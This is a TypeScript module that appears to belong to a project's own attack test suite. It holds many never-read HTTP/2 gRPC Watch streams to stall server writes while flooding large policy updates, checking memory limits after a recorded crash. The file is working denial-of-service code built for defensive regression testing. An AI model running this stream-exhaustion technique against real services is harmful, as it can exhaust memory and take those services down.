// Watch memory (issue 25 item 3): a project owner and a user with no role each hold as many Watch streams as they may
// (--watch-streams-per-caller), half on each port, and never read them (raw HTTP/2 streams, paused, so HTTP/2 flow
// control holds the server's writes), while the project owner rewrites its policy with the most members a policy may
// hold from 16 callers. Before the limits, one such stream grew the server from 0.19 GB to 4.3 GB and killed it.
// Streams cut off for falling behind are opened again, so the pressure stays for the whole run.
import http2 from "node:http2";
import { create, toBinary } from "@bufbuild/protobuf";
import { WatchRequestSchema } from "../../gen/policy/v1/watch_service_pb.js";
import type { Attack, Tenant } from "./attack.js";

const STREAMS_PER_CALLER = 100;
const WRITERS = 16;
const MEMBERS = 1_500;

/** One Watch call that is never read: its own connection (a stalled stream must not block the others' windows). */
function stalledWatch(url: string, token: string, subtree: string): { ended: Promise<void>; close(): void } {
  const session = http2.connect(url);
  session.on("error", () => {});
  const stream = session.request({
    ":method": "POST",
    ":path": "/policy.v1.WatchService/Watch",
    "content-type": "application/grpc",
    te: "trailers",
    authorization: `Bearer ${token}`,
  });
  const body = toBinary(WatchRequestSchema, create(WatchRequestSchema, { subtree }));
  const frame = Buffer.alloc(5 + body.length);
  frame.writeUInt32BE(body.length, 1);
  frame.set(body, 5);
  stream.end(frame);
  stream.pause();
  const ended = new Promise<void>((resolve) => {
    stream.on("close", resolve);
    stream.on("error", () => resolve());
  });
  return { ended, close: () => session.destroy() };
}

/** Keeps `count` stalled streams of `tenant` open (half per port) until `signal` aborts. */
async function holdStreams(tenant: Tenant, urls: string[], subtree: string, count: number, signal: AbortSignal): Promise<void> {
  const open = new Set<{ close(): void }>();
  const aborted = new Promise((resolve) => signal.addEventListener("abort", resolve, { once: true }));
  await Promise.all(
    Array.from({ length: count }, async (_, i) => {
      while (!signal.aborted) {
        const watch = stalledWatch(urls[i % urls.length]!, tenant.token, subtree);
        open.add(watch);
        await Promise.race([watch.ended, aborted]);
        watch.close();
        open.delete(watch);
      }
    }),
  );
  for (const watch of open) watch.close();
}

/** What the server says of its Watch streams as the attack ends (on stderr, beside the table). */
async function report(mainUrl: string, writes: { ok: number; failed: number; error?: string }): Promise<void> {
  const text = await (await fetch(`${mainUrl}/metrics`)).text().catch(() => "");
  const figure = (name: string) => /^(\S+) (\S+)$/m.exec(text.split("\n").find((l) => l.startsWith(`${name} `)) ?? "")?.[2] ?? "?";
  console.error(
    `watch memory: ${figure("policy_watch_streams")} streams open, ${figure("policy_watch_streams_cut_off_total")} cut off, ` +
      `window ${figure("policy_watch_window_bytes")} bytes; ${writes.ok} writes (${writes.failed} failed${writes.error ? `: ${writes.error}` : ""})`,
  );
}

export const attack: Attack = {
  name: "watch memory",
  description: `a project owner and a user with no role each hold ${STREAMS_PER_CALLER} Watch streams they never read (both ports) while the owner writes ${MEMBERS}-member policies from ${WRITERS} callers`,
  async run(ctx, signal) {
    const { attacker, stranger } = ctx;
    const urls = [ctx.mainUrl, ctx.grpcUrl];
    let n = 0;
    const writes: { ok: number; failed: number; error?: string } = { ok: 0, failed: 0 };
    signal.addEventListener("abort", () => void report(ctx.mainUrl, writes), { once: true });
    await Promise.all([
      holdStreams(attacker, urls, attacker.project, STREAMS_PER_CALLER, signal),
      holdStreams(stranger, urls, "", STREAMS_PER_CALLER, signal),
      ...Array.from({ length: WRITERS }, async () => {
        while (!signal.aborted) {
          const round = n++;
          // The owner's own binding stays (a write without it would lock the attacker out after the first one).
          const members = Array.from({ length: MEMBERS - 1 }, (_, i) => `user:m${round}-${i}@attacker.example`);
          const bindings = [{ role: "roles/owner", members: [`user:${attacker.email}`] }, { role: "roles/readonly", members }];
          await attacker.grpc.policies
            .setPolicy({ resource: attacker.project, policy: { bindings } })
            .then(
              () => writes.ok++,
              (e: unknown) => {
                writes.failed++;
                writes.error = String(e).slice(0, 200);
              },
            );
        }
      }),
    ]);
  },
};
